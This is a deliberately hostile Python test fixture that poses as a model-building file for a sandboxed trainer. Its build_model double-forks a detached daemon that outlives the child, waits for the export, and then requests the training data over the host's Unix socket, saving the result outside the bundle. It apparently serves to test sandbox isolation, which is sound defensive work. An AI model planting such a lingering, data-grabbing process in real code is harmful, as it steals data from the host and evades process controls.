"""Hostile: leaves a detached process behind that waits for the data to arrive, then asks for it too."""

import http.client
import os
import socket
import sys
import time
from pathlib import Path

import torch

SOCKET = (Path(__file__).parent / "socket_path.txt").read_text().strip()
MARKER = Path(__file__).parent.parent / "daemon-ran"   # outside the read-only bundle in the host test


class _Unix(http.client.HTTPConnection):
    def connect(self) -> None:
        self.sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.sock.connect(SOCKET)


def _lurk(export_folder: Path) -> None:
    while not (export_folder / "tensors.safetensors").exists():
        time.sleep(0.05)
    time.sleep(1.5)   # the export is written and the child has exited: the trainer fetches the data now
    connection = _Unix("sandbox")
    connection.request("POST", "/training/data", body=b"{}", headers={"Content-Length": "2"})
    MARKER.write_bytes(connection.getresponse().read())


def build_model(n_features: int, n_outputs: int) -> torch.nn.Module:
    export_folder = Path(sys.argv[-1])
    if os.fork() == 0:
        os.setsid()   # out of the child's process group and session
        if os.fork() == 0:
            try:
                _lurk(export_folder)
            finally:
                os._exit(0)
        os._exit(0)
    return torch.nn.Linear(n_features, n_outputs)
